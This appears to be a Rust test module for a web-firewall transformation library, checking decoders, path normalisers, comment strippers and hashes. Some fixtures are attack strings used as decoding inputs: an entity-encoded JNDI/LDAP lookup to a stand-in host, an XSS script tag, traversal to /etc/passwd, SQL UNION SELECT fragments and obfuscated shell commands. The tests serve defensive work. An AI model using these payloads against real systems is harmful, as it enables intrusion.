        (0..=255u8).collect()
    }

    #[test]
    fn names_round_trip() {
        for &t in Transform::ALL {
            assert_eq!(Transform::from_name(t.name()), Some(t));
            assert_eq!(
                Transform::from_name(&t.name().to_ascii_lowercase()),
                Some(t)
            );
            assert_eq!(
                Transform::from_name(&t.name().to_ascii_uppercase()),
                Some(t)
            );
        }
        assert_eq!(
            Transform::from_name("base64decode"),
            Some(Transform::Base64Decode)
        );
        assert_eq!(
            Transform::from_name("normalisePath"),
            Some(Transform::NormalizePath)
        );
        assert_eq!(
            Transform::from_name("normalisePathWin"),
            Some(Transform::NormalizePathWin)
        );
        assert_eq!(
            Transform::from_name("utf8toUnicode"),
            Some(Transform::Utf8ToUnicode)
        );
        assert_eq!(Transform::from_name("bogus"), None);
        assert_eq!(Transform::from_name(""), None);
        assert_eq!(Transform::from_name("urlDecodeUniX"), None);
    }

    #[test]
    fn case() {
        vectors!(Transform::Lowercase;
            b"" => b"", b"testcase" => b"testcase", b"test\0case" => b"test\0case",
            b"TestCase" => b"testcase", b"Test\0Case" => b"test\0case",
            b"\xc3\x89A" => b"\xc3\x89a");
        vectors!(Transform::Uppercase;
            b"" => b"", b"TESTCASE" => b"TESTCASE", b"TestCase" => b"TESTCASE",
            b"test\0case" => b"TEST\0CASE");
        assert_eq!(Transform::Lowercase.apply(b"already lower"), None);
    }

    #[test]
    fn url_decode_vectors() {
        vectors!(Transform::UrlDecode;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\0Case" => b"Test\0Case",
            b"Test+Case" => b"Test Case", b"%+" => b"% ", b"%%20" => b"% ",
            b"%0g%20" => b"%0g ", b"%0%20" => b"%0 ", b"%g0%20" => b"%g0 ", b"%g%20" => b"%g ",
            b"%0%1%2%3%4%5%6%7%8%9%0%a%b%c%d%e%f" => b"%0%1%2%3%4%5%6%7%8%9%0%a%b%c%d%e%f",
            b"%g0%g1%g2%g3" => b"%g0%g1%g2%g3", b"%" => b"%", b"%0" => b"%0",
            b"%%" => b"%%", b"%0g" => b"%0g", b"%gg" => b"%gg",
            b"%u0041" => b"%u0041", b"a%41%4A%4a" => b"aAJJ");
        let mut input = b"+".to_vec();
        for b in 0..=255u8 {
            input.extend_from_slice(format!("%{b:02x}").as_bytes());
        }
        let mut want = b" ".to_vec();
        want.extend(all_bytes());
        check(Transform::UrlDecode, &input, &want);
        assert_eq!(Transform::UrlDecode.apply(b"plain text, no escapes"), None);
        assert_eq!(Transform::UrlDecode.apply(b"100%"), None);
    }

    #[test]
    fn url_decode_uni_vectors() {
        vectors!(Transform::UrlDecodeUni;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\0Case" => b"Test\0Case",
            b"Test+Case" => b"Test Case", b"%+" => b"% ", b"%%20" => b"% ",
            b"%0%20" => b"%0 ", b"%" => b"%", b"%0" => b"%0", b"%u" => b"%u",
            b"%u1" => b"%u1", b"%u12" => b"%u12", b"%u123" => b"%u123",
            b"%u123g" => b"%u123g", b"%U0041" => b"A", b"%u%41" => b"%uA",
            b"var%3d%20@.%3d%20%28%20SELECT" => b"var= @.= ( SELECT",
            // Best-fit mapping (codepage 20127).
            b"%u0041%u00e9%u00e8" => b"Aee",
            b"%u201cAnd he is now" => b"\"And he is now",
            b"%u201dQuoted%u2019s%u2018 word%u2014dash" => b"\"Quoted's' word-dash",
            b"%u00a0%u3002%uff61%uff0e" => b" ...",
            // Not in the table: low byte.
            b"%u1141%u0400%uff00%uff5f" => b"\x41\x00\x00\x5f",
            b"%uff01%uff5e" => b"!~");
        let mut input = b"+".to_vec();
        for b in 0..=255u8 {
            input.extend_from_slice(format!("%u11{b:02x}").as_bytes());
        }
        let mut want = b" ".to_vec();
        want.extend(all_bytes());
        check(Transform::UrlDecodeUni, &input, &want);
        assert_eq!(Transform::UrlDecodeUni.apply(b"no escapes here"), None);
        assert_eq!(Transform::UrlDecodeUni.apply(b"%zz%u12"), None);
    }

    #[test]
    fn best_fit_table_is_sorted() {
        assert!(BEST_FIT_20127.windows(2).all(|w| w[0].0 < w[1].0));
        assert_eq!(BEST_FIT_20127.len(), 373);
        assert!(BEST_FIT_20127.iter().all(|&(_, b)| b.is_ascii()));
    }

    #[test]
    fn url_decode_uni_without_map() {
        let mut input = Vec::new();
        let mut want = Vec::new();
        for b in 0..=255u8 {
            input.extend_from_slice(format!("%u00{b:02x}").as_bytes());
            want.push(b);
        }
        assert_eq!(url_decode_uni(&input, false).unwrap(), want);
        let mut input = Vec::new();
        for c in 0xff01..=0xff5eu32 {
            input.extend_from_slice(format!("%u{c:04x}").as_bytes());
        }
        let want: Vec<u8> = (0x21..=0x7eu8).collect();
        assert_eq!(url_decode_uni(&input, false).unwrap(), want);
        assert_eq!(
            url_decode_uni(b"%uff00%uff7f%uff80", false).unwrap(),
            b"\x00\x7f\x80"
        );
        assert_eq!(url_decode_uni(b"%u201c", false).unwrap(), b"\x1c");
    }

    #[test]
    fn url_encode_vectors() {
        vectors!(Transform::UrlEncode;
            b"" => b"", b"TestCase" => b"TestCase", b"Test Case" => b"Test+Case",
            b"% " => b"%25+", b"%0g " => b"%250g+", b"%" => b"%25", b"%%" => b"%25%25",
            b" !\"#$%&'()*+,-./09:;<=>?@AZ[\\]^_`az{|}~\x7f\x80\xff" =>
                b"+%21%22%23%24%25%26%27%28%29*%2b%2c%2d%2e%2f09%3a%3b%3c%3d%3e%3f%40AZ%5b%5c%5d%5e%5f%60az%7b%7c%7d%7e%7f%80%ff",
            b"\0\x01\x1f" => b"%00%01%1f",
            "\u{c0}".as_bytes() => b"%c3%80");
    }

    #[test]
    fn html_entity_decode_vectors() {
        vectors!(Transform::HtmlEntityDecode;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\0Case" => b"Test\0Case",
            b"&#x0&#X0&#x20&#X20&#0&#32\0&#100&quot&amp&lt&gt&nbsp" =>
                b"\x00\x00\x20\x20\x00\x20\x00\x64\"&<>\xa0",
            b"&#x0;&#X0;&#x20;&#X20;&#0;&#32;\x00&#100;&quot;&amp;&lt;&gt;&nbsp;" =>
                b"\x00\x00\x20\x20\x00\x20\x00\x64\"&<>\xa0",
            b"&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.om/w}" =>
                b"${jndi:ldap://evil.om/w}",
            b"&#xg&#Xg&#xg0&#X2g&#a\0&#a2&#3a&#a00&#1a0&#10a&foo" =>
                b"&#xg&#Xg&#xg0\x02g&#a\0&#a2\x03a&#a00\x01a0\na&foo",
            b"&#xg;&#Xg;&#xg0;&#X2g;&#a;\0&#a2;&#3a&#a00;&#1a0;&#10a;&foo;" =>
                b"&#xg;&#Xg;&#xg0;\x02g;&#a;\0&#a2;\x03a&#a00;\x01a0;\na;&foo;",
            b"&LT;script&Gt;" => b"<script>",
            b"&apos;&ltx;&amp" => b"&apos;&ltx;&",
            b"&" => b"&", b"&#" => b"&#", b"&#x" => b"&#x", b"&;" => b"&;",
            b"&#x3c;&#X3C&#60" => b"<<<",
            b"&#x13c;" => b"<", b"&#316;" => b"<",
            b"&#99999999999999999999999;" => b"\xff",
            b"&#xffffffffffffffffffffffffff;" => b"\xff");
        assert_eq!(Transform::HtmlEntityDecode.apply(b"a & b"), None);
    }

    #[test]
    fn js_decode_vectors() {
        vectors!(Transform::JsDecode;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\0Case" => b"Test\0Case",
            b"\\a\\b\\f\\n\\r\\t\\v\\?\\'\\\"\\0\\12\\123\\x00\\xff\\u0000\\u00ff\\uff01\\uff5e" =>
                b"\x07\x08\x0c\n\r\t\x0b?'\"\x00\n\x53\x00\xff\x00\xff!~",
            b"\\8\\9\\666\\xag\\xga\\u12\\u12g\\0123" => b"89\x36\x36xagxgau12u12g\x0a3",
            b"\\x" => b"x", b"\\x\\x0" => b"xx0", b"\\" => b"\\", b"abc\\" => b"abc\\",
            b"\\477" => b"\x277", b"\\377" => b"\xff", b"\\400" => b"\x200",
            b"\\u0041\\U0041\\X41" => b"AU0041X41",
            b"\\uff00\\uff5f\\ufe01" => b"\x00\x5f\x01");
        assert_eq!(Transform::JsDecode.apply(b"no escapes"), None);
        assert_eq!(Transform::JsDecode.apply(b"trailing\\"), None);
    }

    #[test]
    fn css_decode_vectors() {
        vectors!(Transform::CssDecode;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\0Case" => b"Test\0Case",
            b"test\\a\\b\\f\\n\\r\\t\\v\\?\\'\\\"\\\x00\\12\\123\\1234\\12345\\123456\\ff01\\ff5e\\\n\\\x00  string" =>
                b"test\n\x0b\x0fnrtv?'\"\x00\x12#4EV!~\x00  string",
            b"test\\" => b"test",
            b"\\1A\\1 A\\1234567\\123456 7\\1x\\1 x" => b"\x1a\x01AV7V7\x01x\x01x",
            b"\\0ff01\\00ff5e\\1ff01\\10ff01" => b"!~\x01\x01",
            b"\\3c script\\3e" => b"<script>",
            b"\\\n" => b"", b"\\\\" => b"\\");
    }

    #[test]
    fn escape_seq_decode_vectors() {
        vectors!(Transform::EscapeSeqDecode;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\0Case" => b"Test\0Case",
            b"\\a\\b\\f\\n\\r\\t\\v\\?\\'\\\"\\0\\12\\123\\x00\\xff" =>
                b"\x07\x08\x0c\n\r\t\x0b?'\"\x00\nS\x00\xff",
            b"\\a\\b\\f\\n\\r\\t\\v\x00\\?\\'\\\"\\0\\12\\123\\x00\\xff" =>
                b"\x07\x08\x0c\n\r\t\x0b\x00?'\"\x00\nS\x00\xff",
            b"\\8\\9\\666\\xag\\xga\\0123" => b"89\xb6xagxga\x0a3",
            b"\\x" => b"x", b"\\x\\x0" => b"xx0", b"\\x\\x0\x00" => b"xx0\x00",
            b"\\0" => b"\x00", b"\\01" => b"\x01", b"\\012" => b"\n", b"\\" => b"\\",
            b"\\\x00" => b"\x00", b"\\X41\\\\" => b"A\\", b"\\777" => b"\xff");
    }

    #[test]
    fn cmd_line_vectors() {
        vectors!(Transform::CmdLine;
            b"" => b"", b"test" => b"test",
            b"C^OMMAND /C DIR" => b"command/c dir",
            b"C^oMMaNd /C DiR" => b"command/c dir",
            b"cmd,/c DiR" => b"cmd/c dir",
            b"\"command\" /c DiR" => b"command/c dir",
            b"net\tuser ; whoami,,id" => b"net user whoami id",
            b"echo  (a)" => b"echo(a)",
            b"a ' b" => b"a b",
            b" x" => b" x", b"x " => b"x ",
            b"w\\h\"o'a^m\x00I" => b"whoam\x00i");
        assert_eq!(Transform::CmdLine.apply(b"ls -la"), None);
        assert_eq!(
            Transform::CmdLine.apply(b"ls -la /tmp"),
            Some(b"ls -la/tmp".to_vec())
        );
        assert_eq!(
            Transform::CmdLine.apply(b"ls  -la"),
            Some(b"ls -la".to_vec())
        );
    }

    #[test]
    fn utf8_to_unicode_vectors() {
        vectors!(Transform::Utf8ToUnicode;
            b"" => b"", b"TestCase" => b"TestCase",
            "\u{d0}\u{80} \u{d1}\u{bf}".as_bytes() => b"%u00d0%u0080 %u00d1%u00bf",
            "\u{100}\u{80} \u{2580}".as_bytes() => b"%u0100%u0080 %u2580",
            "\u{1f600}".as_bytes() => b"%u1f600",
            "\u{10ffff}".as_bytes() => b"%u10ffff",
            // NUL: dropped unless last (v3).
            b"a\x00b\x00" => b"ab\x00",
            // Bad lead bytes are dropped, stray continuation bytes copied.
            b"\xc3(\xe2\x82\xff\x80" => b"(\x82\xff\x80",
            b"\xc3" => b"",
            // Overlong and surrogate forms: escape, then the raw lead byte.
            b"\xc0\xaf" => b"%u002f\xc0",
            b"\xe0\x80\xaf" => b"%u002f\xe0",
            b"\xed\xa0\x80" => b"%ud800\xed",
            b"\xf0\x80\x80\xaf" => b"%u002f\xf0",
            b"\xf5\x80\x80\x80" => b"\xf5%u140000");
        assert_eq!(Transform::Utf8ToUnicode.apply(b"plain ascii\x00"), None);
    }

    #[test]
    fn normalize_path_vectors() {
        vectors!(Transform::NormalizePath;
            b"" => b"", b"/foo/bar/baz" => b"/foo/bar/baz", b"/foo/bar\0/baz" => b"/foo/bar\0/baz",
            b"x" => b"x", b"." => b"", b"./" => b"", b"./.." => b"..", b"./../" => b"../",
            b".." => b"..", b"../" => b"../", b"../." => b"..", b".././" => b"../",
            b"../.." => b"../..", b"../../" => b"../../",
            b"/dir/foo//bar" => b"/dir/foo/bar", b"dir/foo//bar/" => b"dir/foo/bar/",
            b"dir/../foo" => b"foo", b"dir/../../foo" => b"../foo",
            b"dir/./.././../../foo/bar" => b"../../foo/bar",
            b"dir/./.././../../foo/bar/." => b"../../foo/bar",
            b"dir/./.././../../foo/bar/./" => b"../../foo/bar/",
            b"dir/./.././../../foo/bar/.." => b"../../foo",
            b"dir/./.././../../foo/bar/../" => b"../../foo/",
            b"dir/./.././../../foo/bar/" => b"../../foo/bar/",
            b"dir//.//..//.//..//..//foo//bar" => b"../../foo/bar",
            b"dir//.//..//.//..//..//foo//bar//" => b"../../foo/bar/",
            b"dir/subdir/subsubdir/subsubsubdir/../../.." => b"dir",
            b"dir/./subdir/./subsubdir/./subsubsubdir/../../.." => b"dir",
            b"dir/./subdir/../subsubdir/../subsubsubdir/.." => b"dir",
            b"/dir/./subdir/../subsubdir/../subsubsubdir/../" => b"/dir/",
            b"/./.././../../../../../../../\0/../etc/./passwd" => b"/etc/passwd",
            b"/.." => b"", b"/../" => b"/", b"/a/b/../../../c" => b"/c",
            b"a\\..\\b" => b"a\\..\\b");
        vectors!(Transform::NormalizePathWin;
            b"" => b"", b"\\foo\\bar\\baz" => b"/foo/bar/baz",
            b"\\foo\\bar\0\\baz" => b"/foo/bar\0/baz", b"x" => b"x", b"." => b"",
            b".\\" => b"", b".\\.." => b"..", b".\\..\\" => b"../", b".." => b"..",
            b"..\\" => b"../", b"..\\." => b"..", b"..\\.\\" => b"../", b"..\\.." => b"../..",
            b"..\\..\\" => b"../../", b"\\dir\\foo\\\\bar" => b"/dir/foo/bar",
            b"dir\\foo\\\\bar\\" => b"dir/foo/bar/", b"dir\\..\\foo" => b"foo",
            b"dir\\..\\..\\foo" => b"../foo",
            b"dir\\.\\..\\.\\..\\..\\foo\\bar" => b"../../foo/bar",
            b"dir\\\\.\\\\..\\\\.\\\\..\\\\..\\\\foo\\\\bar\\\\" => b"../../foo/bar/",
            b"\\dir\\.\\subdir\\..\\subsubdir\\..\\subsubsubdir\\..\\" => b"/dir/",
            b"\\.\\..\\.\\..\\..\\..\\..\\..\\..\\..\\\\0\\..\\etc\\.\\passwd" => b"/etc/passwd",
            b"c:\\windows\\..\\boot.ini" => b"c:/boot.ini");
        assert_eq!(Transform::NormalizePath.apply(b"/a/b/c.txt"), None);
        assert_eq!(Transform::NormalizePath.apply(b"plain"), None);
    }

    #[test]
    fn nulls() {
        vectors!(Transform::RemoveNulls;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\x01Case" => b"Test\x01Case",
            b"\x00TestCase" => b"TestCase", b"Test\x00\x00Case" => b"TestCase",
            b"\x00Test\x00Case\x00" => b"TestCase");
        vectors!(Transform::ReplaceNulls;
            b"" => b"", b"TestCase" => b"TestCase", b"\x00TestCase" => b" TestCase",
            b"Test\x00\x00Case" => b"Test  Case", b"\x00Test\x00Case\x00" => b" Test Case ");
    }

    #[test]
    fn comments() {
        vectors!(Transform::ReplaceComments;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\0Case" => b"Test\0Case",
            b"/* TestCase */" => b" ", b"/*TestCase*/" => b" ",
            b"Before/* TestCase */After" => b"Before After",
            b"Before /* TestCase */ After" => b"Before   After",
            b"/* Test\r\nCase */" => b" ", b"Before/* Test\r\nCase " => b"Before ",
            b"Before /* Test\nCase " => b"Before  ",
            b"Test\r\nCase */After" => b"Test\r\nCase */After",
            b"/*/" => b" ", b"/**/" => b" ", b"a/**//**/b" => b"a  b",
            b"1/*a*/UNION/*b*/SELECT" => b"1 UNION SELECT");
        vectors!(Transform::RemoveComments;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\0Case" => b"Test\0Case",
            b"/* TestCase */" => b"\x00", b"/*TestCase*/" => b"\x00",
            b"Before/* TestCase */After" => b"BeforeAfter",
            b"Before TestCase */ After" => b"Before TestCase */ After",
            b"/* Test\r\nCase */" => b"\x00", b"/*Before/* Test\r\nCase " => b" ",
            b"Before /* Test\nCase " => b"Before  ",
            b"Before/* T*/ /* e */ /* s */ /* t */\r\nCase " => b"Before   \r\nCase ",
            b"Before /* */ ops */ Test\nCase " => b"Before  ops */ Test\nCase ",
            b"/*Test\r\nCase */After" => b"After",
            b"Test\nCase /**/ After" => b"Test\nCase  After",
            b"Test/*\nCase */ After" => b"Test After",
            b"SELECT 1 -- comment" => b"SELECT 1 ", b"a#b" => b"a",
            b"x<!-- y -->z" => b"xz", b"<!-- y" => b" ", b"a-b" => b"a-b");
        vectors!(Transform::RemoveCommentsChar;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\0Case" => b"Test\0Case",
            b"/* TestCase */" => b" TestCase ", b"/*TestCase*/" => b"TestCase",
            b"Before/* TestCase */After" => b"Before TestCase After",
            b"Before /* TestCase */ After" => b"Before  TestCase  After",
            b"Before/* Test\r\nCase " => b"Before Test\r\nCase ",
            b"Test\r\nCase */After" => b"Test\r\nCase After",
            b"Test\nCase */ After" => b"Test\nCase  After",
            b"a<!--b-->c--d#e" => b"abcde", b"a-b" => b"a-b");
    }

    #[test]
    fn base64() {
        vectors!(Transform::Base64Decode;
            b"" => b"", b"VGVzdENhc2U=" => b"TestCase", b"VGVzdENhc2Ux" => b"TestCase1",
            b"VGVzdENhc2UxMg==" => b"TestCase12", b"VGVzdABDYXNl" => b"Test\0Case",
            b"VGVzdENhc2U=\x00VGVzdENhc2U=" => b"TestCase",
            b"VGVzdENhc2UxMg" => b"TestCase12", b"VGVzdENhc2UxM" => b"TestCase1",
            b"VGVz\r\ndENhc2U=" => b"TestCase", b"VGVz!dENhc2U=" => b"Tes",
            b"PHNjcmlwd" => b"<scrip", b"PFR FU1Q+" => b"<T", b"PFRFU1Q-" => b"<TEST",
            b"PHNjcmlwdD.5hbGVydCgxKTwvc2NyaXB0Pg==" => b"<script", b"PA==" => b"<",
            b"dzBz\xc2\xa9V==" => b"w0s",
            b"!" => b"");
        vectors!(Transform::Base64DecodeExt;
            b"" => b"", b"VGVzdENhc2U=" => b"TestCase", b"VGVzdENhc2Ux" => b"TestCase1",
            b"VGVzdENhc2UxMg==" => b"TestCase12", b"VGVzdABDYXNl" => b"Test\0Case",
            b"P.HNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" => b"<script>alert(1)</script>",
            b"VGVz dEN\thc2U" => b"TestCase",
            b"VGVzd=ENhc2U=" => b"", b"QUJD9" => b"ABC");
        vectors!(Transform::Base64Encode;
            b"" => b"", b"TestCase" => b"VGVzdENhc2U=", b"TestCase1" => b"VGVzdENhc2Ux",
            b"TestCase12" => b"VGVzdENhc2UxMg==", b"Test\0Case" => b"VGVzdABDYXNl");
    }

    #[test]
    fn hex() {
        vectors!(Transform::HexDecode;
            b"" => b"", b"5465737443617365" => b"TestCase",
            b"546573740043617365" => b"Test\0Case",
            b"01234567890a0z01234567890a" => b"\x01#Eg\x89\x0a#\x01#Eg\x89\x0a",
            b"01234567890az" => b"\x01#Eg\x89\x0a",
            b"01234567890a0" => b"\x01#Eg\x89\x0a", b"a" => b"");
        vectors!(Transform::HexEncode;
            b"" => b"", b"TestCase" => b"5465737443617365",
            b"Test\0Case" => b"546573740043617365", b"\xff\x80" => b"ff80");
        vectors!(Transform::SqlHexDecode;
            b"" => b"", b"0x414243" => b"ABC", b"SELECT 0x41424 x" => b"SELECT AB4 x",
            b"0x" => b"0x", b"0x4" => b"0x4", b"0xzz" => b"0xzz", b"00x41" => b"0A",
            b"a0X61 0x6" => b"aa 0x6");
    }

    #[test]
    fn hashes_and_length() {
        fn hex(v: &[u8]) -> String {
            v.iter().map(|b| format!("{b:02x}")).collect()
        }
        let md5 = |s: &[u8]| hex(&run(Transform::Md5, s));
        assert_eq!(md5(b""), "d41d8cd98f00b204e9800998ecf8427e");
        assert_eq!(md5(b"abc"), "900150983cd24fb0d6963f7d28e17f72");
        assert_eq!(md5(b"message digest"), "f96b697d7cb7938d525a2f31aaf161d0");
        assert_eq!(
            md5(b"abcdefghijklmnopqrstuvwxyz"),
            "c3fcd3d76192e4007dfb496cca67e13b"
        );
        assert_eq!(
            md5(
                b"12345678901234567890123456789012345678901234567890123456789012345678901234567890"
            ),
            "57edf4a22be3c955ac49da2e2107b67a"
        );
        assert_eq!(md5(&[b'a'; 55]), "ef1772b6dff9a122358552954ad0df65");
        assert_eq!(md5(&[b'a'; 56]), "3b0c8ac703f828b04c6c197006d17218");
        assert_eq!(md5(&[b'a'; 64]), "014842d480b571495a4a0363793f7367");
        assert_eq!(md5(b"TestCase"), "c9aba2c3e60126169e80e9a26ba273c1");
        assert_eq!(md5(b"zimmerle"), "2d536590292d427e4e14829a45bcfe89");
        let sha1 = |s: &[u8]| hex(&run(Transform::Sha1, s));
        assert_eq!(sha1(b""), "da39a3ee5e6b4b0d3255bfef95601890afd80709");
        assert_eq!(
            sha1(b"TestCase"),
            "a70ce38389e318bd2be18a0111c6dc76bd2cd9ed"
        );
        assert_eq!(
            sha1(b"\x00\x01\x02\x03\x04\x05\x06\x07\x08"),
            "63bf60c7105a07a2b125bbf89e61abdabc6978c2"
        );
        vectors!(Transform::Length;
            b"" => b"0", b"0123456789abcdef" => b"16", b"0123456789\tabcdef" => b"17",
            b"Test\0Case" => b"9", b"1" => b"1");
        assert_eq!(Transform::Length.apply(b"x"), Some(b"1".to_vec()));
        assert_eq!(Transform::Length.apply(b"1"), None);
    }

    #[test]
    fn whitespace() {
        vectors!(Transform::CompressWhitespace;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\0Case" => b"Test\0Case",
            b"Test Case" => b"Test Case", b"  Test  \t   Case  " => b" Test Case ",
            b"This is a   test case with a tab \t, vtab \x0b, newline \n, return \r, formfeed \x0c, and a NUL\0 in it with a CRLF at the end.\r\n" =>
                b"This is a test case with a tab , vtab , newline , return , formfeed , and a NUL\0 in it with a CRLF at the end. ",
            b"a\xa0\xa0b" => b"a b", b"a\xc2\xa0 b" => b"a b", b"a\xc2\x85b" => b"a b",
            "voil\u{e0} \u{e0}".as_bytes() => "voil\u{e0} \u{e0}".as_bytes(),
            b"\xe4\xbd\xa0 x" => b"\xe4\xbd\xa0 x");
        vectors!(Transform::RemoveWhitespace;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\0Case" => b"Test\0Case",
            b"  Test  \t   Case  " => b"TestCase",
            b"This is a   test case with a tab \t, vtab \x0b, newline \n, return \r, formfeed \x0c, and a NUL\0 in it with a CRLF at the end.\r\n" =>
                b"Thisisatestcasewithatab,vtab,newline,return,formfeed,andaNUL\0initwithaCRLFattheend.",
            b"a\xa0b\xc2\xa0c" => b"abc", "\u{e0} \u{a9}".as_bytes() => "\u{e0}\u{a9}".as_bytes());
        assert_eq!(Transform::CompressWhitespace.apply(b"one two three"), None);
        assert_eq!(
            Transform::CompressWhitespace.apply("\u{e0}".as_bytes()),
            None
        );
    }

    #[test]
    fn trims() {
        vectors!(Transform::Trim;
            b"" => b"", b"TestCase" => b"TestCase", b"Test\0Case" => b"Test\0Case",
            b"    TestCase" => b"TestCase", b"TestCase    " => b"TestCase",
            b"    Test   Case    " => b"Test   Case",
            b" \t   Test \0 Case \t  \t   \r\n  " => b"Test \0 Case", b" \t " => b"");
        vectors!(Transform::TrimLeft;
            b"" => b"", b"TestCase    " => b"TestCase    ", b"    TestCase" => b"TestCase",
            b" \t   Test \0 Case \t  \t   \r\n  " => b"Test \0 Case \t  \t   \r\n  ",
            b"   " => b"");
        vectors!(Transform::TrimRight;
            b"" => b"", b"    TestCase" => b"    TestCase", b"TestCase    " => b"TestCase",
            b" \t   Test12 \0 Case \t  \t   \r\n  " => b" \t   Test12 \0 Case", b"   " => b"");
    }

    #[test]
    fn parity_vectors() {
        vectors!(Transform::ParityEven7bit;
            b"" => b"",
            b"cefijloqrtwx03569ABDGHKMNPSUVYZ" => b"cefijloqrtwx03569ABDGHKMNPSUVYZ",
            b"abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ" =>
                b"\xe1\xe2c\xe4ef\xe7\xe8ij\xebl\xed\xeeo\xf0qr\xf3t\xf5\xf6wx\xf9\xfa0\xb1\xb23\xb456\xb7\xb89AB\xc3D\xc5\xc6GH\xc9\xcaK\xccMN\xcfP\xd1\xd2S\xd4UV\xd7\xd8YZ");
        vectors!(Transform::ParityOdd7bit;
            b"abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ" =>
                b"ab\xe3d\xe5\xe6gh\xe9\xeak\xecmn\xefp\xf1\xf2s\xf4uv\xf7\xf8yz\xb012\xb34\xb5\xb678\xb9\xc1\xc2C\xc4EF\xc7\xc8IJ\xcbL\xcd\xceO\xd0QR\xd3T\xd5\xd6WX\xd9\xda");
        vectors!(Transform::ParityZero7bit;
            b"abc" => b"abc", b"\xe1\xe2c\xff" => b"abc\x7f");
    }

    /// Deterministic xorshift generator for the robustness tests.
    struct Rng(u64);
    impl Rng {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 7;
            self.0 ^= self.0 << 17;
            self.0
        }
    }

    /// Bytes that are special to at least one transformation.
    const SPECIAL: &[u8] = b"%+uUxX0123789aAfFgz&#;\\/.*-<!>=\"'^ \t\n\r\x0b\x00\x80\xa0\xc2\xc3\xe0\xed\xf0\xf5\xff(,";

    #[test]
    fn never_panics_exhaustive_short() {
        // Every string of 1 to 3 bytes over SPECIAL.
        let first = SPECIAL[0];
        for &a in SPECIAL {
            for &b in SPECIAL {
                for &c in SPECIAL {
                    let len = if b == first && c == first {
                        1..=3
                    } else if c == first {
                        2..=3
                    } else {
                        3..=3
                    };
                    for l in len {
                        let buf = &[a, b, c][..l];
                        for &t in Transform::ALL {
                            run(t, buf);
                        }
                    }
                }
            }
        }
        for &t in Transform::ALL {
            run(t, b"");
            run(t, &all_bytes());
        }
    }

    #[test]
    fn never_panics_random() {
        let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
        let mut buf = Vec::new();
        for _ in 0..5_000 {
            buf.clear();
            let len = (rng.next() % 48) as usize;
            for _ in 0..len {
                let r = rng.next();
                buf.push(if r & 3 == 0 {
                    (r >> 8) as u8
                } else {
                    SPECIAL[((r >> 8) % SPECIAL.len() as u64) as usize]
                });
            }
            for &t in Transform::ALL {
                run(t, &buf);
            }
        }
    }

    #[test]
    fn long_inputs_are_linear() {
        // Pathological repetitions; these must finish quickly.
        let inputs: Vec<Vec<u8>> = vec![
            b"&#".repeat(20_000),
            b"../".repeat(20_000),
            b"a/../".repeat(20_000),
            b"/*".repeat(20_000),
            b"\\u12".repeat(20_000),
            b"%u00".repeat(20_000),
            b"&amp".repeat(20_000),
            b"\\".repeat(20_000),
            b"0x4".repeat(20_000),
            b"\xe0\x80".repeat(20_000),
        ];
        for input in &inputs {
            for &t in Transform::ALL {
                let _ = t.apply(input);
            }
        }
    }
}
